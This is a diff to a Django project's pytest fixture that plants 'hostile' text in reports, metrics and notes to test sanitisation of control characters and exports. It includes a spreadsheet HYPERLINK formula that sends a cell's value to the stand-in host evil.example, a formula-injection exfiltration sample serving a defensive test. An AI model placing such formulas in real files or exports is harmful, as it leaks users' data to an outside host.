@@ -22,16 +22,17 @@ from concordat.reports.models import Metric, MetricValue, Milestone, ReportSecti
 pytestmark = pytest.mark.django_db
 
 FORMULA = '=HYPERLINK("https://evil.example/?x="&B9,"Evidence")'
-# A vertical tab (Word's line break), an escape sequence, a NUL and a form feed.
-STORED = f"{FORMULA}\x0bsecond line \x1b[31mred\x00\x0cthird"
+# A vertical tab (Word's line break), an escape sequence, a backspace and a form feed (NUL
+# itself cannot be stored in PostgreSQL).
+STORED = f"{FORMULA}\x0bsecond line \x1b[31mred\x08\x0cthird"
 CLEAN = f"{FORMULA}\nsecond line [31mred\nthird"
 NOTE = "+44 said: @everyone\x1b meet at 9"
 NOTE_CLEAN = "+44 said: @everyone meet at 9"
-CONTROL = ("\x00", "\x0b", "\x0c", "\x1b")
+CONTROL = ("\x08", "\x0b", "\x0c", "\x1b")
 
 
 @pytest.fixture
-def hostile(world):
+def hostile(world, settings, tmp_path):
     """Hostile text in both published versions, their updates, the report and a metric."""
     Action.objects.filter(version__in=[world.v1, world.v2], ref="1.1").update(
         text=STORED, lead="-Northshire Police\x1b"
@@ -44,6 +45,7 @@ def hostile(world):
     Metric.objects.filter(pk=metric.pk).update(target=Decimal("-5"), description=STORED)
     MetricValue.objects.filter(metric=metric).update(note=NOTE)
     world.north.refresh_from_db()
+    settings.MEDIA_ROOT = tmp_path  # the ZIP is built from this data when first asked for
     return world
 
 
